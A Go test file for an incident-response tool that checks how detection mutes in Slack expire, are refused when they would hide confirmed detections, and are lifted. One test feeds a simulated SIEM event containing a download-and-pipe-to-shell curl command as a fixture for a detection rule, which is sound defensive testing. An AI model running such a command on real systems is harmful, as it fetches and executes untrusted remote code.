package main

import (
	"strings"
	"testing"
	"time"

	"firebreak/incident"
	"firebreak/integrations/sandbox"
	"firebreak/store"
)

// muteForm opens the form below a detection's message.
func (w *world) muteForm(c sandbox.SlackChannel, who, ts string) *sandbox.View {
	w.t.Helper()
	w.click(c, who, ts, "firebreak_mute")
	v := w.screen(who)
	if !strings.Contains(string(v.JSON), `"mute_rule"`) {
		w.t.Fatalf("%s sees %s", who, v.JSON)
	}
	return v
}

// kept are the detections of which nobody was told.
func (w *world) kept(h incident.Handling) (found []incident.Detection) {
	w.t.Helper()
	w.view(func(v *store.View) (err error) {
		found, err = v.DetectionsHandled(time.Time{}, 100, h)
		return err
	})
	return found
}

// TestMuteUntilItExpires: what a mute covers is kept and told nobody, other
// groups are told as ever; when its time is over its owner hears once what it
// hid, and the rule is told again. A restart in between changes nothing.
func TestMuteUntilItExpires(t *testing.T) {
	longUnderRace(t)
	withDetection(t, nil, func(w *world, c sandbox.SlackChannel) {
		v := w.muteForm(c, "kim", w.found(c).TS)
		if v.Value("scope") != "group" || v.Value("for") != "8h" || v.Value("owner") != w.user("kim") {
			t.Errorf("the form starts with %v", v.Values())
		}
		w.send(v.Fill("for", "1d").Fill("reason", "our <scanner>, until the ticket is done").Fill("owner", "alex"))
		w.wantSaid(c, "about address 203.0.113.50 until")
		if said := w.saidIn(w.control(), "one address"); len(said) != 1 || strings.Contains(texts(said[0].Blocks), "scanner") || strings.Contains(texts(said[0].Blocks), "203.0") {
			t.Errorf("the control channel reads %+v", said)
		}
		w.wantEntry(1, incident.KindNote, "muted rule failed-logins about address 203.0.113.50 until")
		w.crash()
		w.start()
		c.Command("sam", "/inc close drill")
		w.pass(2 * time.Hour)
		w.guesses("203.0.113.50")
		if n := len(w.incidents()); n != 1 {
			t.Fatalf("%d incidents", n)
		}
		if kept := w.kept(incident.HandlingSuppressed); len(kept) != 1 || kept[0].Incident != 0 || len(kept[0].Evidence) != 5 {
			t.Errorf("kept: %+v", kept)
		}
		if n := len(w.threads()); n != 1 {
			t.Errorf("%d answers below alerts", n)
		}
		w.wantAnswer(w.control(), "sam", "/inc detect mutes", "1 mute in force", "hid 1")
		w.wantAnswer(w.control(), "sam", "/inc detect hints", "Many failed logins from one address", "muted")
		w.guesses("198.51.100.7")
		if n := len(w.incidents()); n != 2 {
			t.Errorf("%d incidents: another address was muted too", n)
		}
		w.away(24 * time.Hour)
		w.pass(2 * time.Minute)
		w.settle()
		w.stop()
		w.start()
		w.pass(5 * time.Minute)
		w.settle()
		ended := w.saidIn(w.control(), "your mute 1 has ended")
		if len(ended) != 1 || !strings.Contains(texts(ended[0].Blocks), w.user("alex")) || !strings.Contains(texts(ended[0].Blocks), "It hid 1 detection.") {
			t.Errorf("the owner was told %+v", ended)
		}
		w.guesses("203.0.113.50")
		if n := len(w.incidents()); n != 3 {
			t.Errorf("%d incidents: the rule did not come back", n)
		}
		w.wantAnswer(w.control(), "sam", "/inc detect mutes", "Nothing is muted")
	})
}

// TestMutedThingThatGoesOn is told under its own id once the mute is over.
func TestMutedThingThatGoesOn(t *testing.T) {
	longUnderRace(t)
	withDetection(t, nil, func(w *world, c sandbox.SlackChannel) {
		w.send(w.muteForm(c, "kim", w.found(c).TS).Fill("for", "1h").Fill("reason", "a test"))
		c.Command("sam", "/inc close drill")
		w.pass(58 * time.Minute)
		again := time.Now().Add(5 * time.Minute) // an hour after the first: another detection
		for i := range 5 {
			w.siem(failure(again, "203.0.113.50", i))
		}
		w.settle()
		if kept := w.kept(incident.HandlingSuppressed); len(kept) != 1 || len(w.incidents()) != 1 {
			t.Fatalf("kept %+v", kept)
		}
		w.pass(20 * time.Minute)
		w.siem(failure(again, "203.0.113.50", 20))
		w.settle()
		if n := len(w.incidents()); n != 2 || len(w.kept(incident.HandlingSuppressed)) != 0 {
			t.Errorf("%d incidents", n)
		}
		if d := w.detections(2); len(d) != 1 || len(d[0].Evidence) != 6 {
			t.Errorf("told: %+v", d)
		}
	})
}

// TestMuteThatWouldHideWhatIsReal is refused until it is narrowed, or wanted
// all the same.
func TestMuteThatWouldHideWhatIsReal(t *testing.T) {
	longUnderRace(t)
	withDetection(t, nil, func(w *world, c sandbox.SlackChannel) {
		w.click(c, "sam", w.found(c).TS, "firebreak_confirm")
		w.guesses("198.51.100.7") // shares the host, so it joins the incident
		said := w.saidIn(c, "198.51.100.7")
		if len(said) != 1 {
			t.Fatalf("told %d times of the other address", len(said))
		}
		second := said[0].TS
		// All of the rule: the confirmed one would have been hidden.
		v := w.muteForm(c, "kim", second).Fill("scope", "rule").Fill("for", "30d").Fill("reason", "too loud")
		if shown := v.Submit(); shown != nil {
			t.Fatalf("errors: %v", shown)
		}
		w.pass(time.Second)
		v = w.screen("kim")
		if s := plainJSON(string(v.JSON)); !strings.Contains(s, "would have hidden 1 detection that people confirmed") || !strings.Contains(s, "203.0.113.50") ||
			v.Value("scope") != "rule" || v.Value("for") != "30d" || v.Value("reason") != "too loud" {
			t.Fatalf("kim sees %s", s)
		}
		if shown := v.Submit(); shown["anyway"] == "" {
			t.Errorf("unticked: %v", shown)
		}
		// A second one is confirmed meanwhile: what was ticked is no longer true.
		w.click(c, "sam", second, "firebreak_confirm")
		v.Fill("anyway", "rule:1").Submit()
		w.pass(time.Second)
		if v = w.screen("kim"); !strings.Contains(plainJSON(string(v.JSON)), "would have hidden 2 detections") {
			t.Fatalf("kim sees %s", v.JSON)
		}
		if mutes := w.mutes(); len(mutes) != 0 {
			t.Fatalf("muted already: %+v", mutes)
		}
		w.send(v.Fill("anyway", "rule:2"))
		if mutes := w.mutes(); len(mutes) != 1 || mutes[0].Group != (incident.Entity{}) || mutes[0].Owner != w.user("kim") {
			t.Fatalf("mutes: %+v", mutes)
		}
		w.wantSaid(c, "It would have hidden 2 confirmed detections")
		if shown := w.muteForm(c, "alex", second).Fill("scope", "rule").Fill("reason", "me too").Submit(); !strings.Contains(shown["scope"], "muted already, as mute 1") {
			t.Errorf("a second mute of the same shows %v", shown)
		}
		w.sb.Slack.View("alex").Close()
		w.guesses("192.0.2.99")
		if n := len(w.kept(incident.HandlingSuppressed)); n != 1 {
			t.Errorf("%d kept", n)
		}
		w.wantAnswer(c, "guest", "/inc detect unmute 1", "Only full members")
		w.wantAnswer(c, "alex", "/inc detect unmute 7", "No mute 7 is in force")
		w.wantAnswer(c, "alex", "/inc detect unmute 1", "lifted mute 1", "It hid 1 detection")
		w.wantAnswer(c, "alex", "/inc detect unmute 1", "No mute 1 is in force")
		w.settle()
		w.wantEntry(1, incident.KindNote, "lifted the mute of all of rule failed-logins")
		w.wantSaid(w.control(), "lifted mute 1")
		w.away(31 * 24 * time.Hour)
		w.pass(2 * time.Minute)
		w.settle()
		if said := w.saidIn(c, "has ended"); len(said) != 0 {
			t.Errorf("the end of a lifted mute was told: %+v", said)
		}
	})
}

// TestMuteNarrowed takes effect where no confirmed detection stands in its way.
func TestMuteNarrowed(t *testing.T) {
	withDetection(t, nil, func(w *world, c sandbox.SlackChannel) {
		w.click(c, "sam", w.found(c).TS, "firebreak_confirm")
		w.guesses("198.51.100.7")
		second := w.saidIn(c, "198.51.100.7")[0].TS
		w.muteForm(c, "kim", second).Fill("scope", "rule").Fill("reason", "too loud").Submit()
		w.pass(time.Second)
		w.send(w.screen("kim").Fill("scope", "group"))
		if mutes := w.mutes(); len(mutes) != 1 || mutes[0].Group.Value != "198.51.100.7" {
			t.Errorf("mutes: %+v", mutes)
		}
	})
}

// TestMuteFromTheThread works for a responder who may not see the incident,
// and the form takes only what it offers.
func TestMuteFromTheThread(t *testing.T) {
	withDetection(t, nil, func(w *world, c sandbox.SlackChannel) {
		alerts := w.sb.Slack.In("#alerts")
		v := w.muteForm(alerts, "jo", w.inThread().TS)
		if shown := v.Fill("reason", "x").Fill("owner", "guest").Submit(); !strings.Contains(shown["owner"], "full member") {
			t.Errorf("a guest as owner shows %v", shown)
		}
		if shown := v.Fill("owner", "jo").Fill("reason", "   ").Submit(); shown["reason"] == "" {
			t.Errorf("no reason shows %v", shown)
		}
		w.send(v.Fill("reason", "the scanner"))
		if s := w.sb.Slack.View("jo"); s == nil || !strings.Contains(plainJSON(string(s.JSON)), "detect unmute 1") {
			t.Error("jo got no answer on the screen")
		}
		w.wantSaid(c, "the scanner")
		for _, m := range alerts.Messages() {
			if strings.Contains(m.Text+texts(m.Blocks), "the scanner") {
				t.Error("the alert channel reads the reason")
			}
		}
	})
}

// TestMutedSigmaRuleThatGoesOn: what a rule goes on to find after a mute is
// told, with all that it stands for.
func TestMutedSigmaRuleThatGoesOn(t *testing.T) {
	longUnderRace(t)
	inWorld(t, func(w *world) {
		w.env["FIREBREAK_RULES"] = ruleFolder(t, map[string]string{"curl.yml": curlRule})
		w.start()
		curl := func(user string) {
			w.siem("```" + processStart("curl http://203.0.113.9/a | sh", user, "web-1") + "```")
			w.settle()
		}
		curl("www-data")
		c := w.channel(1)
		w.settle()
		w.pass(2 * time.Minute)
		w.settle()
		w.send(w.muteForm(c, "sam", w.found(c).TS).Fill("scope", "rule").Fill("for", "1h").Fill("reason", "a roll-out"))
		c.Command("sam", "/inc close drill")
		w.pass(45 * time.Minute)
		curl("deploy")
		curl("deploy")
		if kept := w.kept(incident.HandlingSuppressed); len(kept) != 1 || kept[0].Group != account("deploy") || len(w.incidents()) != 1 {
			t.Fatalf("%d incidents, kept %+v", len(w.incidents()), kept)
		}
		w.pass(20 * time.Minute)
		curl("deploy")
		if n := len(w.incidents()); n != 2 || len(w.kept(incident.HandlingSuppressed)) != 0 {
			t.Fatalf("%d incidents", n)
		}
		if d := w.detections(2); len(d) != 1 || d[0].Count != 3 || len(d[0].Evidence) != 3 {
			t.Errorf("told: %+v", d)
		}
	})
}

// mutes are those in force.
func (w *world) mutes() (list []incident.Suppression) {
	w.t.Helper()
	w.view(func(v *store.View) (err error) {
		list, err = v.Suppressions(time.Now())
		return err
	})
	return list
}
